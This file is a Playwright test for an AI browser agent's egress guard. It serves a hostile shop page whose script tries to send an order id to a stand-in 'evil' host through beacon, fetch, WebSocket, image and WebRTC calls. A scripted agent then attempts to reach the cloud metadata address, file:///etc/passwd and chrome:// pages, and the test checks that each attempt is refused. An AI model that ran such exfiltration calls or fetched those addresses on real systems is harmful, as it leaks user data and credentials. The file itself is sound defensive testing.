import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { runProject } from './project.ts';

/** A server on a port of its own that remembers what it was asked. */
async function serve(answer: (path: string) => string): Promise<{ server: Server; port: number; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    const body = answer(request.url ?? '');
    if (body.startsWith('http')) response.writeHead(302, { location: body }).end();
    else response.writeHead(200, { 'content-type': 'text/html' }).end(body);
  });
  server.on('upgrade', (request, socket) => {
    asked.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port, asked };
}

test('H5 H15 what a page wants sent elsewhere, and addresses it wants the agent to visit, are refused and said', async () => {
  const evil = await serve(() => 'evil');
  const elsewhere = `127.0.0.1:${evil.port}`;
  const shop = await serve(path =>
    path === '/start'
      ? `<title>Shop</title><a href="http://${elsewhere}/link?d=mia-1234">details</a>`
      : path === '/redirect'
        ? `http://${elsewhere}/redirect?d=mia-1234`
        : `<title>Shop</title><h1>Order mia-1234</h1><a href="http://${elsewhere}/link?d=mia-1234">details</a>
    <img src="http://${elsewhere}/img?d=mia-1234"><script>
    navigator.sendBeacon('http://${elsewhere}/beacon', 'mia-1234'); new WebSocket('ws://${elsewhere}/socket?d=mia-1234');
    fetch('http://${elsewhere}/fetch?d=mia-1234').catch(() => {});
    new RTCPeerConnection({ iceServers: [{ urls: 'stun:${elsewhere}' }] }).createDataChannel('x');</script>`,
  );
  const run = await runProject({
    env: { SHOP: `http://127.0.0.1:${shop.port}/`, EVIL: `http://${elsewhere}/` },
    files: {
      'hostile.spec.ts': `
import { test, expect } from 'playwright-webwright';
import { scripted, scriptedJudge } from 'playwright-webwright/testing';
const go = url => ({ playwright_code: 'await page.goto(' + JSON.stringify(url) + ')' });
const agentModel = scripted({
  agent: [
    { playwright_code: "await page.getByRole('link').click(); return await page.title()" },
    go(process.env.SHOP + 'redirect'), go(process.env.EVIL + 'admin'), go('http://169.254.169.254/latest'),
    go('file:///etc/passwd'), go('chrome://version'), go('view-source:' + process.env.SHOP),
    go(process.env.SHOP), { done: true, final_response: 'Blocked: it leads elsewhere' },
  ],
  ...scriptedJudge({ points: ['the order is read'], looks: ['failure'] }),
});
test.use({ agentModel });
test('hostile', async ({ agent, page }) => {
  await page.goto(process.env.SHOP + 'start');
  const run = await agent.run({ id: 'order', instruction: 'Read the order.' }, { assert: false });
  expect(run.steps).toBe(9);
  // Between attempts the lines are the author's own.
  expect(await (await page.request.get(process.env.EVIL + 'author')).text()).toBe('evil');
});`,
    },
  });
  evil.server.close();
  shop.server.close();
  expect(run.tests[0]?.errors, run.stdout).toEqual([]);
  const attempt = run.tests[0]!.attempts[0]!;
  const folder = join(run.folder, attempt.runFolder);
  const observed = readFileSync(join(folder, 'events.jsonl'), 'utf8');
  const { egressHosts, egress } = JSON.parse(readFileSync(join(folder, 'run.json'), 'utf8'));
  expect(evil.asked).toEqual(['/author']);
  expect(observed).toContain(`Refused by the egress policy: ${elsewhere}: port ${evil.port} is none that the task names for it.`);
  expect(observed).toContain('Refused by the egress policy: 169.254.169.254:80: it is a link-local address');
  // What is no page of the web is the guard's to refuse.
  expect(observed.match(/Only pages of the web/g)?.length ?? 0).toBeGreaterThanOrEqual(3);
  expect(observed).not.toMatch(/root:x?:0:0/);
  expect(egressHosts.map(({ host }: { host: string }) => host).sort()).toEqual(
    [elsewhere, `127.0.0.1:${shop.port}`, '169.254.169.254:80'].sort(),
  );
  expect(JSON.stringify(egressHosts)).not.toContain('mia-1234');
  expect(egress).toMatch(/^public/);
});
